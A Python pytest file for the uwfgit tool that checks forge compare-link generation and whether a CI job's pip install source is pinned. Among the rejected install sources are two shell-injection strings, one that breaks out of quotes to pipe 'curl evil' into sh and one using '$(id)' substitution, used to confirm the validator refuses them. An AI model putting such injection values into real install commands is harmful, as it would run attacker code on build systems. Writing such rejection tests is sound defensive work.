from __future__ import annotations

import pytest

from uwfgit.errors import UsageError
from uwfgit.sync.review.forges import Forge, check_source, compare_link, make_job


@pytest.mark.parametrize(
    ("url", "forge", "link"),
    [
        pytest.param(
            "git@github.com:o/r.git",
            None,
            "https://github.com/o/r/compare/uwf/main...uwf/T?expand=1",
            id="github by scp",
        ),
        pytest.param(
            "https://me:secret@github.example.org/o/r",
            None,
            "https://github.example.org/o/r/compare/uwf/main...uwf/T?expand=1",
            id="github with a password",
        ),
        pytest.param(
            "ssh://git@gitlab.com:2222/a/b/c.git",
            None,
            "https://gitlab.com/a/b/c/-/merge_requests/new"
            "?merge_request%5Bsource_branch%5D=uwf%2FT"
            "&merge_request%5Btarget_branch%5D=uwf%2Fmain",
            id="gitlab by ssh",
        ),
        pytest.param(
            "https://codeberg.org/o/r.git",
            None,
            "https://codeberg.org/o/r/compare/uwf/main...uwf/T",
            id="forgejo",
        ),
        pytest.param(
            "https://git.example.org:8443/o/r.git",
            "gitea",
            "https://git.example.org:8443/o/r/compare/uwf/main...uwf/T",
            id="a forge by its flag",
        ),
        pytest.param(
            "git@bitbucket.org:o/r.git",
            None,
            "https://bitbucket.org/o/r/pull-requests/new"
            "?source=uwf%2FT&dest=uwf%2Fmain",
            id="bitbucket",
        ),
        pytest.param("https://git.example.org/o/r", None, None, id="not known"),
        pytest.param("/srv/github/r.git", None, None, id="a path"),
        pytest.param("file:///srv/github.git", None, None, id="a file"),
    ],
)
def test_compare_links(url: str, forge: Forge | None, link: str | None) -> None:
    assert compare_link(url, base="uwf/main", head="uwf/T", forge=forge) == link


@pytest.mark.parametrize(
    ("source", "is_pinned"),
    [
        ("uwfgit", False),
        ("uwfgit==1.0", False),
        ("git+https://example.org/uwfgit@main", False),
        ("git+https://example.org/uwfgit@" + "a" * 40, True),
        ("uwfgit @ git+https://example.org/uwfgit@" + "a" * 40, True),
        ("uwfgit[jsonata] @ git+ssh://git@example.org/uwfgit@" + "a" * 40, True),
        ("uwfgit @ https://example.org/uwfgit-1-py3-none-any.whl", False),
        ("uwfgit @ https://example.org/uwfgit-1.whl#sha256=" + "b" * 64, True),
        ("x' && curl evil | sh #", False),
        ("git+https://example.org/$(id)@" + "a" * 40, False),
    ],
)
def test_a_job_installs_one_thing_that_cannot_change(
    source: str, *, is_pinned: bool
) -> None:
    if not is_pinned:
        with pytest.raises(UsageError):
            check_source(source)
        return

    text = make_job("github", beside_code=True, install=check_source(source)).text

    assert f"pip install '{source}'" in text
